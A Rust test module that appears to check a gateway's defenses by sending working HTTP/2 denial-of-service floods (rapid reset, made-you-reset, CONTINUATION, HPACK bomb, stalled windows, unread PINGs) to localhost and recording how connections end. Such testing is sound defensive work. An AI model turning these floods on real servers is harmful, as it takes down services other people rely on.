//! Attacks by HTTP/2, frame by frame.
//!
//! A connection's answers are taken by a thread of its own, so that only the gateway's patience ends the flood, and behind the
//! last frame comes a good request: whoever gets it answered was not minded. Where not taking answers is the attack,
//! nobody reads.

use std::io::{ErrorKind, Read, Write};
use std::net::{Ipv4Addr, TcpStream};
use std::thread;
use std::time::Duration;

use super::{Attack, Endings, Scale, Target, connect_from};
use crate::support::frames::{
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADER_TABLE_SIZE, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, PRIORITY,
    RST_STREAM, SETTINGS, block, frame, reset, settings, window_update,
};

/// Nothing that floods lasts so long.
const PATIENCE: Duration = Duration::from_secs(60);
/// Bytes sent at a time.
const PIECE_BYTES: usize = 32 * 1024;
/// For every connection whose streams stall, so many of them.
const STALLED_STREAMS: u32 = 100;
/// The largest frame that a peer may be sent unasked (RFC 9113 section 4.2).
const FRAME_BYTES_MAX: usize = 16_384;

/// For the question whether a connection is still served.
const LAST_STREAM: u32 = 0x7fff_ffff;

/// By code, as h2 and the gateway choose them.
const STOPPED: &[&str] = &["GOAWAY 1", "GOAWAY 2", "GOAWAY 11", "closed", "reset"];

pub(super) const FLOODS: [Attack; 13] = [
    Attack { name: "rapid reset", run: rapid_reset, endings: STOPPED },
    Attack { name: "made-you-reset", run: made_you_reset, endings: STOPPED },
    Attack { name: "CONTINUATION without end", run: continuation, endings: STOPPED },
    Attack { name: "empty CONTINUATION", run: empty_continuation, endings: STOPPED },
    Attack { name: "PING", run: ping, endings: STOPPED },
    Attack { name: "SETTINGS", run: setting, endings: STOPPED },
    Attack { name: "empty SETTINGS", run: empty_settings, endings: STOPPED },
    Attack { name: "PRIORITY", run: priority, endings: STOPPED },
    Attack { name: "unknown frames", run: unknown, endings: STOPPED },
    Attack { name: "empty DATA", run: empty_data, endings: STOPPED },
    Attack { name: "DATA of one byte", run: small_data, endings: STOPPED },
    Attack { name: "HPACK bomb", run: hpack_bomb, endings: STOPPED },
    Attack { name: "HPACK table beyond the limit", run: hpack_table, endings: &["GOAWAY 1", "GOAWAY 9"] },
];
/// Those of them that `src/edge/frame_budget.rs` alone stops.
#[cfg(feature = "mutants")]
pub(super) const ONLY_BUDGETED: [&str; 5] = ["PING", "SETTINGS", "empty SETTINGS", "PRIORITY", "unknown frames"];
pub(super) const STALLS: [Attack; 1] =
    [Attack { name: "streams without a window", run: stalled_streams, endings: &["closed", "reset", "GOAWAY 0"] }];
pub(super) const UNTAKEN: [Attack; 1] =
    [Attack { name: "PING whose answers nobody takes", run: untaken_pings, endings: &["closed", "reset"] }];

/// A request's block.
fn request(target: &Target, method: &str, path: &str) -> Vec<u8> {
    block(&[(":method", method), (":scheme", "http"), (":path", path), (":authority", "localhost"), ("x-api-key", &target.key.secret)])
}

/// On a tenth of the connections, one after the other: what begins it, then frame after frame until the gateway ends it.
fn flood(target: &Target, scale: Scale, begin: &[u8], mut next: impl FnMut(u32) -> Vec<u8>) -> Endings {
    let mut endings = Endings::default();
    for _ in 0..scale.connections.div_ceil(10).min(scale.frames) {
        let mut socket = connect_from(Ipv4Addr::LOCALHOST, target.edge, None).expect("it is let in");
        socket.set_write_timeout(Some(PATIENCE)).expect("a wait");
        let answers = socket.try_clone().expect("a socket can be cloned");
        let reader = thread::spawn(move || read_to_the_end(answers));
        let mut piece = [PREFACE, &settings(&[]), begin].concat();
        let mut is_taken = true;
        for turn in 0..scale.frames as u32 {
            piece.extend(next(turn));
            endings.sent += 1;
            if piece.len() >= PIECE_BYTES {
                is_taken = socket.write_all(&piece).is_ok();
                piece.clear();
            }
            if !is_taken {
                break;
            }
        }
        if is_taken {
            // A gateway that has minded nothing answers this.
            piece.extend(frame(HEADERS, END_HEADERS | END_STREAM, LAST_STREAM, &request(target, "GET", "/x")));
            socket.write_all(&piece).ok();
        }
        endings.add(reader.join().expect("it only reads"));
    }
    endings
}

/// Takes every frame; answers how the connection ended, which is the code of its GOAWAY if there was one.
fn read_to_the_end(mut socket: TcpStream) -> String {
    socket.set_read_timeout(Some(PATIENCE)).expect("a wait");
    let mut goaway = None;
    loop {
        let mut head = [0; 9];
        let read = socket.read_exact(&mut head).and_then(|()| {
            let mut payload = vec![0; usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2])];
            socket.read_exact(&mut payload).map(|()| payload)
        });
        match read {
            Ok(payload) if head[3] == GOAWAY => {
                goaway = payload.get(4..8).and_then(|code| code.try_into().ok()).map(|code| format!("GOAWAY {}", u32::from_be_bytes(code)));
            }
            Ok(_) if head[3] == HEADERS && head[5..] == LAST_STREAM.to_be_bytes() => return "not minded".into(),
            Ok(_) => {}
            Err(error) => {
                let way = match error.kind() {
                    ErrorKind::UnexpectedEof => "closed",
                    ErrorKind::WouldBlock | ErrorKind::TimedOut => "open",
                    _ => "reset",
                };
                return goaway.unwrap_or_else(|| way.into());
            }
        }
    }
}

/// The stream of a turn.
fn stream(turn: u32) -> u32 {
    turn * 2 + 1
}

fn rapid_reset(target: &Target, scale: Scale) -> Endings {
    let head = request(target, "GET", "/held");
    flood(target, scale, &[], |turn| [frame(HEADERS, END_HEADERS | END_STREAM, stream(turn), &head), reset(stream(turn), CANCEL)].concat())
}

/// A window that grows by nothing is an error of the stream, which the gateway itself has to reset (CVE-2025-8671).
fn made_you_reset(target: &Target, scale: Scale) -> Endings {
    let head = request(target, "GET", "/held");
    flood(target, scale, &[], |turn| {
        [frame(HEADERS, END_HEADERS | END_STREAM, stream(turn), &head), window_update(stream(turn), 0)].concat()
    })
}

fn continuation(target: &Target, scale: Scale) -> Endings {
    let begin = frame(HEADERS, END_STREAM, 1, &request(target, "GET", "/x"));
    let more = block(&[("x-more", "y".repeat(100).as_str()); 10]);
    flood(target, scale, &begin, |_| frame(CONTINUATION, 0, 1, &more))
}

fn empty_continuation(target: &Target, scale: Scale) -> Endings {
    let begin = frame(HEADERS, END_STREAM, 1, &request(target, "GET", "/x"));
    flood(target, scale, &begin, |_| frame(CONTINUATION, 0, 1, &[]))
}

fn ping(target: &Target, scale: Scale) -> Endings {
    flood(target, scale, &[], |turn| frame(PING, 0, 0, &u64::from(turn).to_be_bytes()))
}

fn setting(target: &Target, scale: Scale) -> Endings {
    flood(target, scale, &[], |turn| settings(&[(INITIAL_WINDOW_SIZE, turn), (HEADER_TABLE_SIZE, u32::MAX)]))
}

fn empty_settings(target: &Target, scale: Scale) -> Endings {
    flood(target, scale, &[], |_| frame(SETTINGS, 0, 0, &[]))
}

fn priority(target: &Target, scale: Scale) -> Endings {
    flood(target, scale, &[], |turn| frame(PRIORITY, 0, stream(turn), &[0, 0, 0, 0, 16]))
}

fn unknown(target: &Target, scale: Scale) -> Endings {
    flood(target, scale, &[], |_| frame(0xbe, 0, 0, b"nothing"))
}

fn empty_data(target: &Target, scale: Scale) -> Endings {
    let begin = frame(HEADERS, END_HEADERS, 1, &request(target, "POST", "/x"));
    flood(target, scale, &begin, |_| frame(DATA, 0, 1, &[]))
}

fn small_data(target: &Target, scale: Scale) -> Endings {
    // Nobody takes it there, so it piles up.
    let begin = frame(HEADERS, END_HEADERS, 1, &request(target, "POST", "/held"));
    flood(target, Scale { frames: scale.frames * 10, ..scale }, &begin, |_| frame(DATA, 0, 1, b"x"))
}

/// One large field goes into the table, and then one byte names it again and again (RFC 7541 section 6.1): 16 KiB of
/// block are 64 MB of fields.
fn hpack_bomb(target: &Target, scale: Scale) -> Endings {
    const LARGE: usize = 3_900;
    // A literal with incremental indexing; its value's length is 127 and the rest in groups of seven bits.
    let rest = LARGE - 127;
    let length = [0x7f, u8::try_from(rest % 128).expect("seven bits") | 128, u8::try_from(rest / 128).expect("seven bits")];
    let large = [&[0x40, 1, b'x'], &length[..], "y".repeat(LARGE).as_bytes()].concat();
    let block = [request(target, "GET", "/x"), large].concat();
    let bomb = [block.clone(), vec![0xbe; FRAME_BYTES_MAX - block.len()]].concat();
    flood(target, Scale { frames: scale.frames / 20, ..scale }, &[], |turn| frame(HEADERS, END_HEADERS | END_STREAM, stream(turn), &bomb))
}

/// A dynamic table larger than the gateway has offered (RFC 7541 section 6.3).
fn hpack_table(target: &Target, scale: Scale) -> Endings {
    let block = [vec![0x3f, 0xff, 0xff, 0xff, 0x7f], request(target, "GET", "/x")].concat();
    flood(target, scale, &[], |turn| frame(HEADERS, END_HEADERS | END_STREAM, stream(turn), &block))
}

/// Large answers on many streams whose windows stay shut. The connection ends when it has none left.
fn stalled_streams(target: &Target, scale: Scale) -> Endings {
    let head = request(target, "GET", "/large");
    let begin = [PREFACE, &settings(&[(INITIAL_WINDOW_SIZE, 0)])].concat();
    let streams: Vec<u8> = (0..STALLED_STREAMS).flat_map(|turn| frame(HEADERS, END_HEADERS | END_STREAM, stream(turn), &head)).collect();
    let mut endings = Endings::default();
    let connections: Vec<_> = (0..scale.connections.div_ceil(60))
        .map(|_| {
            let mut socket = connect_from(Ipv4Addr::LOCALHOST, target.edge, None).expect("it is let in");
            socket.write_all(&[&begin[..], &streams].concat()).expect("there is room for heads");
            endings.sent += STALLED_STREAMS as usize;
            thread::spawn(move || resets(socket, STALLED_STREAMS))
        })
        .collect();
    connections.into_iter().for_each(|reader| endings.add(reader.join().expect("it only reads")));
    endings
}

/// Waits until so many streams were reset, and then goes.
fn resets(mut socket: TcpStream, streams: u32) -> String {
    socket.set_read_timeout(Some(PATIENCE)).expect("a wait");
    let mut left = streams;
    while left > 0 {
        let mut head = [0; 9];
        let read = socket.read_exact(&mut head).and_then(|()| {
            let mut payload = vec![0; usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2])];
            socket.read_exact(&mut payload)
        });
        match read {
            Ok(()) if head[3] == RST_STREAM => left -= 1,
            Ok(()) => {}
            Err(error) => return format!("{left} streams open: {error}"),
        }
    }
    "reset".into()
}

/// Asks for answers and takes none: the gateway stops reading, and its patience with the unwritten ends.
fn untaken_pings(target: &Target, scale: Scale) -> Endings {
    let mut endings = Endings::default();
    let piece = frame(PING, 0, 0, &[7; 8]).repeat(1_000);
    let connections: Vec<_> = (0..scale.connections.div_ceil(10))
        .map(|_| {
            let mut socket = connect_from(Ipv4Addr::LOCALHOST, target.edge, Some(2 * 1024)).expect("it is let in");
            socket.set_write_timeout(Some(PATIENCE)).expect("a wait");
            socket.write_all(&[PREFACE, &settings(&[])].concat()).expect("there is room for it");
            let piece = piece.clone();
            thread::spawn(move || {
                // Far more than is minded; of fewer, the gateway's patience with what it cannot write is the end.
                let mut sent = 0;
                while sent < 100_000_000 {
                    match socket.write_all(&piece) {
                        Ok(()) => sent += 1_000,
                        Err(error) if error.kind() == ErrorKind::WouldBlock => return (sent, "open"),
                        Err(_) => return (sent, "reset"),
                    }
                }
                (sent, "not minded")
            })
        })
        .collect();
    for connection in connections {
        let (sent, way) = connection.join().expect("it only writes");
        endings.sent += sent;
        endings.add(way);
    }
    endings
}
